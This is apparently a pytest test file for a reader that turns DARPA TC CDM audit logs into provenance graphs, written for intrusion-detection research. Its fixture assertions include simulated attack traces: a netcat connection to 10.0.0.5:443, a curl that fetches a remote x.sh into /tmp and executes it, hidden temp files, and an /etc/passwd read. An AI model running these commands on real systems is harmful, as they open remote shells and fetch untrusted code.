"""DARPA TC CDM JSON-lines reader: counts on hand-written CADETS/THEIA-style files,
forward references, malformed input, format detection, invariances."""

from __future__ import annotations

import collections
import gzip
import importlib
import json
from pathlib import Path

import orjson
import pytest

from riskscope.exceptions import InputError, SchemaError
from riskscope.graph.schema import ProvenanceGraph
from riskscope.io import provenance
from riskscope.io.provenance import cdm, read_provenance
from riskscope.io.provenance import streamspot as ss

DATA = Path(__file__).resolve().parents[1] / "data" / "provenance" / "cdm"
CADETS, THEIA = DATA / "cadets.json", DATA / "theia.json"
NS = "com.bbn.tc.schema.avro.cdm18"

STRACE_LINES = (
    b'1234 1700000000.123456 openat(AT_FDCWD, "/etc/passwd", O_RDONLY) = 3</etc/passwd>\n'
    b'1234 1700000000.123500 read(3</etc/passwd>, "root:x:0:0:root:/root:/bin/bash\\n"'
    b", 4096) = 1024\n"
    b"1234 1700000000.124000 close(3</etc/passwd>) = 0\n"
)
SYSMON_LINES = (
    b'{"EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "WS5", '
    b'"Image": "C:\\\\Windows\\\\System32\\\\cmd.exe", "CommandLine": "cmd /c whoami"}\n'
    b'{"EventID": 3, "SourceName": "Microsoft-Windows-Sysmon", "DestinationIp": "10.0.0.5"}\n'
)

# CADETS fixture, by line: 1 Host, 2 Principal, 3 Subject sshd, 4 open (file record
# comes on 5), 7 fork (child record on 8), 9 execve + loader, 18 truncated JSON,
# 22 exit (no object), 23 unknown record type, 24 unknown event type, 30 FLOWS_TO
# (no subject), 31 blank, 32 subject and object never defined, 33 non-CDM JSON,
# 36 event without timestamp, 38 setuid (no object), 40 unreferenced directory.
P_SSHD, P_SH = "72FB0406-3678-11E8-BF66-D9AA8AFF4A69", "8A2C1E55-3679-11E8-BF66-D9AA8AFF4A69"
P_NC, X_UNDEF = "9B3D2F66-367A-11E8-BF66-D9AA8AFF4A69", "F5B816EE-C4B5-5C6D-8E9F-A0B1C2D3E4F5"
F_SH, F_LD = "5B1E7C44-2A1B-5C3D-9E8F-7A6B5C4D3E02", "6C2F8D55-3B2C-5D4E-AF90-8B7C6D5E4F03"
F_TMP, F_TMP2 = "7D309E66-4C3D-5E5F-B0A1-9C8D7E6F5004", "8E41AF77-5D4E-5F60-C1B2-AD9E8F706105"
N1 = "B174D2AA-8071-11E8-BF66-D9AA8AFF4A69"
P_BASH, P_CURL = "E8030000-0000-0000-0000-000000000020", "E9030000-0000-0000-0000-000000000020"
P_TSH, P_THR = "EA030000-0000-0000-0000-000000000020", "EB030000-0000-0000-0000-000000000020"


def _read(path: Path, **kw) -> ProvenanceGraph:
    graphs = cdm.read(path, **kw)
    assert len(graphs) == 1
    return graphs[0]


def _by_id(g: ProvenanceGraph) -> dict[str, dict]:
    return {r["id"]: r for r in g.nodes.to_pylist()}


def _triples(g: ProvenanceGraph) -> list[tuple[str, str, str]]:
    ids = g.nodes["id"].to_pylist()
    return [(ids[e["src"]], e["type"], ids[e["dst"]]) for e in g.edges.to_pylist()]


def _same_graph(a: ProvenanceGraph, b: ProvenanceGraph) -> None:
    assert a.nodes.equals(b.nodes), (a.nodes.to_pylist(), b.nodes.to_pylist())
    assert a.edges.equals(b.edges)


# --- the CADETS-style file -------------------------------------------------------------
def test_cadets_counts_and_types():
    g = _read(CADETS)
    s = g.validate()
    assert (s["nodes"], s["edges"]) == (14, 26)
    assert s["node_types"] == {"file": 5, "process": 3, "netflow": 2, "pipe": 2, "other": 1,
                               "unix_socket": 1}
    assert s["edge_types"] == {
        "create": 2, "load": 2, "open": 2, "read": 2, "recv": 2, "rename": 2, "send": 2,
        "accept": 1, "chmod": 1, "close": 1, "connect": 1, "delete": 1, "exec": 1,
        "frobnicate": 1, "mmap": 1, "other": 1, "start": 1, "truncate": 1, "write": 1,
    }  # fmt: skip
    assert g.name == "cadets.json"
    assert g.meta["source"] == "cdm" and g.meta["time"] == "ns"
    assert g.meta["cdm_source"] == "SOURCE_FREEBSD_DTRACE_CADETS"


def test_cadets_parse_statistics():
    p = _read(CADETS).meta["parse"]
    assert p["records"] == 47  # 48 lines, one blank
    assert p["skipped"] == {"malformed": 2, "no_object": 2, "no_subject": 1, "not_cdm": 1,
                            "Host": 1, "TimeMarker": 1, "EndMarker": 1,
                            "unknown record FrobRecord": 1}
    assert p["unknown"] == {"EVENT_FROBNICATE": 1}
    assert p["first_bad"] == ["line 18: malformed", "line 23: unknown record FrobRecord",
                              "line 33: not_cdm", "line 36: malformed"]
    assert p["undefined_nodes"] == 2  # P_NC (acts, so a process) and X_UNDEF (other)
    assert p["unreferenced_entities"] == 2  # the Principal and the directory


def test_cadets_names_from_events_and_exec():
    nodes = _by_id(_read(CADETS))
    # CADETS subjects carry no names: the events' "exec" property names the process
    assert (nodes[P_SSHD]["type"], nodes[P_SSHD]["name"], nodes[P_SSHD]["pid"]) == (
        "process", "sshd", 800)
    # forked from sshd, then execve /bin/sh: renamed to the image, command line from the
    # execve event's properties
    assert (nodes[P_SH]["name"], nodes[P_SH]["cmdline"], nodes[P_SH]["pid"]) == (
        "/bin/sh", "sh -c nc 10.0.0.5 443", 801)
    # file paths come from the events' predicateObjectPath ("<unknown>" is no path)
    assert nodes[F_SH]["name"] == "/bin/sh" and nodes[F_LD]["name"] == "/libexec/ld-elf.so.1"
    assert nodes[F_TMP]["name"] == "/tmp/payload" and nodes[F_TMP2]["name"] == "/tmp/.hidden"
    assert nodes["9F52B088-6E5F-6071-D2C3-BEAF90817206"]["name"] == ""
    # netflow: remote end is the name, local end a column
    assert (nodes[N1]["type"], nodes[N1]["name"], nodes[N1]["local"]) == (
        "netflow", "10.0.0.5:443", "128.55.12.73:51234")
    # never-defined nodes: an actor is a process (named by its events), else "other"
    assert (nodes[P_NC]["type"], nodes[P_NC]["name"]) == ("process", "nc")
    assert (nodes[X_UNDEF]["type"], nodes[X_UNDEF]["name"]) == ("other", "")


def test_cadets_edges_point_actor_to_object():
    t = _triples(_read(CADETS))
    assert (P_SSHD, "start", P_SH) in t
    assert (P_SH, "exec", F_SH) in t
    assert (P_SH, "load", F_LD) in t  # execve's second object: the loader
    assert (P_SH, "rename", F_TMP) in t and (P_SH, "rename", F_TMP2) in t
    assert (P_SH, "send", N1) in t and (P_SH, "recv", N1) in t  # both actor -> object
    assert (P_NC, "read", X_UNDEF) in t
    assert all(src != "00000000-0000-0000-0000-000000000000" for src, _, _ in t)


# --- the THEIA-style file --------------------------------------------------------------
def test_theia_counts_names_and_zero_uuid():
    g = _read(THEIA)
    s = g.validate()
    assert (s["nodes"], s["edges"]) == (12, 19)
    assert s["node_types"] == {"file": 4, "process": 3, "netflow": 2, "memory": 1,
                               "srcsink": 1, "thread": 1}
    p = g.meta["parse"]
    assert p["records"] == 36
    assert p["skipped"] == {"malformed": 2, "no_object": 1, "no_subject": 1, "TimeMarker": 1}
    assert p["unknown"] == {}
    assert (p["undefined_nodes"], p["unreferenced_entities"]) == (1, 2)
    assert g.meta["cdm_source"] == "SOURCE_LINUX_THEIA"
    nodes = _by_id(g)
    # THEIA: process path in the Subject's properties, file name in baseObject properties
    assert (nodes[P_BASH]["name"], nodes[P_BASH]["cmdline"], nodes[P_BASH]["pid"]) == (
        "/bin/bash", "bash", 1000)
    assert (nodes[P_CURL]["name"], nodes[P_CURL]["cmdline"]) == (
        "/usr/bin/curl", "curl -s http://93.184.216.34/x.sh -o /tmp/x.sh")
    assert nodes[P_TSH]["name"] == "/tmp/x.sh"  # never defined: exec names it
    assert (nodes[P_THR]["type"], nodes[P_THR]["pid"]) == ("thread", 1003)
    names = {r["type"]: r["name"] for r in nodes.values() if r["type"] in ("memory", "srcsink")}
    assert names == {"memory": hex(6443008), "srcsink": "SRCSINK_UNKNOWN"}
    assert "00000000-0000-0000-0000-000000000000" not in nodes  # unused slots of THEIA
    t = _triples(g)
    assert (P_BASH, "start", P_THR) in t and (P_BASH, "start", P_CURL) in t


@pytest.mark.parametrize("path", [CADETS, THEIA], ids=["cadets", "theia"])
def test_positions_ids_and_times_consistent(path):
    g = _read(path)
    ids = g.nodes["id"].to_pylist()
    assert len(set(ids)) == len(ids)
    edges = g.edges.to_pylist()
    ts = [e["ts"] for e in edges]
    assert ts == sorted(ts)  # the fixtures are time-ordered, so are the edges
    touched = collections.defaultdict(list)
    for e in edges:
        touched[e["src"]].append(e["ts"])
        touched[e["dst"]].append(e["ts"])
    assert sorted(touched) == list(range(g.n_nodes))  # only referenced entities are nodes
    for i, node_ts in enumerate(g.nodes["ts"].to_pylist()):
        assert node_ts <= min(touched[i])  # first seen (or the subject's start)
    assert g.edge_index().shape == (2, g.n_edges)


def _rec(rtype: str, body: dict, ns: str = NS) -> bytes:
    return orjson.dumps({"datum": {f"{ns}.{rtype}": body}, "CDMVersion": "18",
                         "source": "SOURCE_LINUX_SYSCALL_TRACE"})


def test_trace_style_units_and_names(tmp_path):
    """TRACE: names in properties.map.name and baseObject...path; BEEP units."""
    u = {f"{NS}.UUID": "P1"}
    lines = [
        _rec("Subject", {"uuid": "P1", "type": "SUBJECT_PROCESS", "cid": 15466,
                         "cmdLine": {"string": "/bin/sh -c run-parts /etc/cron.hourly"},
                         "startTimestampNanos": 100,
                         "properties": {"map": {"name": "sh", "cwd": "/root"}}}),
        _rec("Subject", {"uuid": "U1", "type": "SUBJECT_UNIT", "cid": 15466,
                         "parentSubject": u, "unitId": {"int": 1},
                         "properties": {"map": {"name": "sh"}}}),
        _rec("FileObject", {"uuid": "F1", "type": "FILE_OBJECT_FILE", "baseObject": {
            "hostId": "H", "properties": {"map": {"path": "/lib64/ld-linux-x86-64.so.2"}}}}),
        _rec("Event", {"uuid": "E1", "type": "EVENT_UNIT", "timestampNanos": 200,
                       "subject": u, "predicateObject": {f"{NS}.UUID": "U1"}}),
        _rec("Event", {"uuid": "E2", "type": "EVENT_MMAP", "timestampNanos": 300,
                       "subject": {f"{NS}.UUID": "U1"}, "predicateObject": {f"{NS}.UUID": "F1"},
                       "properties": {"map": {"opm": "Used"}}}),
        _rec("UnitDependency", {"unit": u, "dependentUnit": {f"{NS}.UUID": "U1"}}),
    ]
    f = tmp_path / "trace.json"
    f.write_bytes(b"\n".join(lines))
    g = _read(f)
    nodes = _by_id(g)
    assert [(r["type"], r["name"]) for r in nodes.values()] == [
        ("process", "sh"), ("unit", "sh"), ("file", "/lib64/ld-linux-x86-64.so.2")]
    assert nodes["P1"]["ts"] == 100  # the subject's start beats "first referenced"
    assert _triples(g) == [("P1", "unit", "U1"), ("U1", "mmap", "F1")]
    assert g.meta["parse"]["skipped"] == {"UnitDependency": 1}


def test_blank_command_line_names_nothing(tmp_path):
    """A subject without a path is named after its command line's first word, if any."""
    lines = [
        _rec("Subject", {"uuid": "P1", "type": "SUBJECT_PROCESS", "cmdLine": {"string": " "}}),
        _rec("Event", {"uuid": "E1", "type": "EVENT_READ", "timestampNanos": 5,
                       "subject": {f"{NS}.UUID": "P1"}, "predicateObject": {f"{NS}.UUID": "F1"}}),
    ]
    f = tmp_path / "blank.json"
    f.write_bytes(b"\n".join(lines))
    p1 = _by_id(_read(f))["P1"]
    assert (p1["type"], p1["name"], p1["cmdline"]) == ("process", "", " ")


def test_other_cdm_versions_read_the_same(tmp_path):
    """E5 data uses the cdm19/cdm20 namespaces; nothing depends on the version."""
    f = tmp_path / "cdm20.json"
    f.write_bytes(THEIA.read_bytes().replace(b"avro.cdm18.", b"avro.cdm20.")
                  .replace(b'"CDMVersion":"18"', b'"CDMVersion":"20"'))
    _same_graph(_read(f), _read(THEIA))


def test_large_non_cdm_json_is_a_schema_error(tmp_path):
    f = tmp_path / "sysmon.json"
    f.write_bytes(SYSMON_LINES * 1000 + b"not even json\n" * 5)
    with pytest.raises(SchemaError, match=r"not DARPA TC CDM records .*'EventID'"):
        cdm.read(f)


def test_read_provenance_passes_options():
    (g,) = read_provenance(CADETS, format="cdm", max_records=6)
    assert g.meta["parse"]["records"] == 6 and g.n_edges == 2


# --- invariances -------------------------------------------------------------------------
@pytest.mark.parametrize("path", [CADETS, THEIA], ids=["cadets", "theia"])
def test_entity_records_before_or_after_the_events_give_the_same_graph(path, tmp_path):
    lines = path.read_bytes().splitlines()

    def is_event(line: bytes) -> bool:
        return f"{NS}.Event".encode() in line

    events = [x for x in lines if is_event(x)]
    others = [x for x in lines if not is_event(x)]
    first, last = tmp_path / "first.json", tmp_path / "last.json"
    first.write_bytes(b"\n".join(others + events) + b"\n")
    last.write_bytes(b"\n".join(events + others) + b"\n")
    a, b = _read(first), _read(last)
    _same_graph(a, b)
    _same_graph(a, _read(path))
    assert a.meta["parse"]["undefined_nodes"] == b.meta["parse"]["undefined_nodes"]


def test_max_records_beyond_the_file_changes_nothing():
    ref = _read(CADETS)
    g = _read(CADETS, max_records=10_000)
    _same_graph(g, ref)
    assert g.meta == ref.meta


def test_gzip_crlf_and_bom_read_the_same(tmp_path):
    ref = _read(THEIA)
    gz = tmp_path / "theia.json.gz"
    gz.write_bytes(gzip.compress(THEIA.read_bytes()))
    crlf = tmp_path / "theia_crlf.json"
    crlf.write_bytes(b"\xef\xbb\xbf" + THEIA.read_bytes().replace(b"\n", b"\r\n"))
    for path in (gz, crlf):
        g = _read(path)
        _same_graph(g, ref)
        assert g.meta["parse"] == ref.meta["parse"]


def test_no_final_newline_keeps_the_last_record(tmp_path):
    f = tmp_path / "x.json"
    f.write_bytes(CADETS.read_bytes().rstrip(b"\n"))
    assert _read(f).meta["parse"] == _read(CADETS).meta["parse"]


def test_every_unknown_event_is_counted_and_kept(tmp_path):
    lines = CADETS.read_bytes().splitlines()
    frob = next(x for x in lines if b"EVENT_FROBNICATE" in x)
    f = tmp_path / "frob.json"
    f.write_bytes(b"\n".join(lines + [frob, frob.replace(b"FROBNICATE", b"WIBBLE"), frob]))
    g = _read(f)
    assert g.meta["parse"]["unknown"] == {"EVENT_FROBNICATE": 3, "EVENT_WIBBLE": 1}
    assert g.validate()["edge_types"]["frobnicate"] == 3
    assert g.validate()["edge_types"]["wibble"] == 1


def test_hundreds_of_unknown_event_types_keep_their_names(tmp_path):
    """Edge type codes widen past one byte when unknown types add over 256 names."""
    u = {f"{NS}.UUID": "P"}
    lines = [_rec("Event", {"uuid": f"E{k}", "type": f"EVENT_X{k % 300}", "timestampNanos": k,
                            "subject": u, "predicateObject": {f"{NS}.UUID": "F"}})
             for k in range(1, 601)]
    f = tmp_path / "many.json"
    f.write_bytes(b"\n".join(lines))
    g = _read(f)
    assert g.edges["type"].to_pylist() == [f"x{k % 300}" for k in range(1, 601)]
    assert len(g.meta["parse"]["unknown"]) == 300


def test_max_records_stops_early():
    g = _read(CADETS, max_records=9)
    assert g.meta["parse"]["records"] == 9
    assert g.edges["type"].to_pylist() == ["open", "read", "start", "exec", "load"]


def test_truncated_gzip_keeps_what_was_read(tmp_path):
    data = gzip.compress(CADETS.read_bytes() * 20)
    f = tmp_path / "cut.json.gz"
    f.write_bytes(data[: len(data) * 2 // 3])
    g = _read(f)
    assert g.meta["parse"]["skipped"]["truncated_gzip"] == 1
    assert 0 < g.n_edges < 20 * 26


# --- malformed input never crashes -----------------------------------------------------
_MUTATIONS = [
    ("subject", 5), ("subject", ["x"]), ("subject", {}), ("predicateObject", 3),
    ("predicateObject", {f"{NS}.UUID": 7}), ("predicateObject2", "not-a-dict"),
    ("timestampNanos", "soon"), ("timestampNanos", None), ("timestampNanos", 2**64),
    ("timestampNanos", {"long": -(2**70)}), ("cid", 2**70), ("startTimestampNanos", 2**65),
    ("type", None), ("type", 12),
    ("properties", 3), ("properties", {"map": {"exec": 5}}), ("predicateObjectPath", 9),
    ("uuid", None), ("cid", "x"), ("cmdLine", {"string": 4}), ("cmdLine", {"string": " "}),
    ("baseObject", 1),
    ("remoteAddress", None), ("memoryAddress", "far"),
]


def test_mutated_records_are_skipped_or_absorbed_never_crash(tmp_path):
    lines = [x for x in CADETS.read_bytes().splitlines() + THEIA.read_bytes().splitlines()
             if x.strip()]
    out = []
    for k, line in enumerate(lines):
        try:
            rec = orjson.loads(line)
            ((key, body),) = rec["datum"].items()
        except (orjson.JSONDecodeError, KeyError, ValueError, AttributeError):
            out.append(line)
            continue
        out.append(line)
        for field, value in _MUTATIONS:
            if field in body:
                # json, not orjson: some values are beyond 64 bits on purpose
                out.append(json.dumps({"datum": {key: {**body, field: value}}}).encode())
        out.append(line[: len(line) // 2])  # cut mid-record
        out.append(orjson.dumps({"datum": body}))  # datum without its type key
        out.append(orjson.dumps({"datum": {key: body}, "x": k})[:-1] + b"\x00}")
    f = tmp_path / "mutated.json"
    f.write_bytes(b"\n".join(out) + b"\n")
    g = _read(f)
    g.validate()
    p = g.meta["parse"]
    assert p["records"] == len(out)
    assert p["skipped"]["malformed"] > len(lines)
    assert set(g.node_types()) <= {"process", "thread", "file", "netflow", "pipe", "memory",
                                   "srcsink", "unix_socket", "other"}


# --- bad inputs ------------------------------------------------------------------------
def test_empty_file():
    with pytest.raises(InputError, match=r"empty\.json: the CDM log is empty \(0 records\)"):
        cdm.read(DATA / "empty.json")


def test_binary_garbage():
    with pytest.raises(InputError, match=r"none of the \d+ lines is JSON .*--format"):
        cdm.read(DATA / "garbage.bin")


def test_json_but_not_cdm_names_the_keys():
    with pytest.raises(SchemaError, match=r"not DARPA TC CDM records \(line 1 has top-level "
                                          r"keys \['EventID', 'SourceName'"):
        cdm.read(DATA / "not_cdm.json")


def test_missing_file(tmp_path):
    with pytest.raises(InputError, match=r"nope\.json: no such file"):
        cdm.read(tmp_path / "nope.json")


def test_entities_without_events(tmp_path):
    f = tmp_path / "objects.json"
    f.write_bytes(b"\n".join(x for x in CADETS.read_bytes().splitlines()
                             if f"{NS}.Event".encode() not in x))
    with pytest.raises(InputError, match=r"CDM records but no event with a subject and an "
                                         r"object .*Event records"):
        cdm.read(f)


def test_messages_are_one_line():
    for path, exc in ((DATA / "garbage.bin", InputError), (DATA / "not_cdm.json", SchemaError)):
        with pytest.raises(exc, match=r"^[^\n]+$"):
            cdm.read(path)


# --- sniffing and the registry ---------------------------------------------------------
def test_sniff_accepts_cdm_plain_and_gzip():
    head = CADETS.read_bytes()[:65536]
    assert cdm.sniff(head)
    assert cdm.sniff(gzip.compress(CADETS.read_bytes())[:4096])
    assert cdm.sniff(b"\xef\xbb\xbf\n" + THEIA.read_bytes()[:2000])


@pytest.mark.parametrize("head", [
    STRACE_LINES, SYSMON_LINES, b"", b"\x1f\x8b\x08garbage", (DATA / "garbage.bin").read_bytes(),
    b"4\ta\t5\tc\tp\t0\n4\ta\t6\tc\tp\t0\n", b'{"name": "com.bbn.tc.schema.avro.cdm18"}\n',
], ids=["strace", "sysmon", "empty", "bad-gzip", "garbage", "streamspot", "json-mentioning"])
def test_sniff_rejects_other_formats(head):
    assert not cdm.sniff(head)


def test_streamspot_sniff_rejects_cdm():
    assert not ss.sniff(CADETS.read_bytes()[:65536])


@pytest.fixture
def only_ours(monkeypatch):
    """The registry restricted to this module's formats, whatever else exists yet."""
    monkeypatch.setattr(provenance, "FORMATS", {"cdm": "cdm", "streamspot": "streamspot"})


def test_auto_detects_cdm(only_ours, tmp_path):
    gz = tmp_path / "theia.json.gz"
    gz.write_bytes(gzip.compress(THEIA.read_bytes()))
    for path in (CADETS, THEIA, gz):
        assert provenance.detect_format(path) == "cdm"
        (g,) = read_provenance(path)
        assert g.meta["source"] == "cdm"


@pytest.mark.parametrize("content", [STRACE_LINES, SYSMON_LINES], ids=["strace", "sysmon"])
def test_auto_does_not_claim_other_formats(only_ours, tmp_path, content):
    f = tmp_path / "log.txt"
    f.write_bytes(content)
    with pytest.raises(InputError, match="not a known audit-log format"):
        provenance.detect_format(f)


def test_full_registry_detects_cdm(tmp_path):
    """With every registered reader that exists so far (others are written alongside)."""
    for module in provenance.FORMATS.values():
        pytest.importorskip(f"riskscope.io.provenance.{module}")
    assert provenance.detect_format(CADETS) == "cdm"
    f = tmp_path / "strace.log"
    f.write_bytes(STRACE_LINES)
    assert provenance.detect_format(f) != "cdm"


def test_registry_lists_cdm():
    assert provenance.FORMATS["cdm"] == "cdm"
    assert importlib.import_module("riskscope.io.provenance.cdm") is cdm
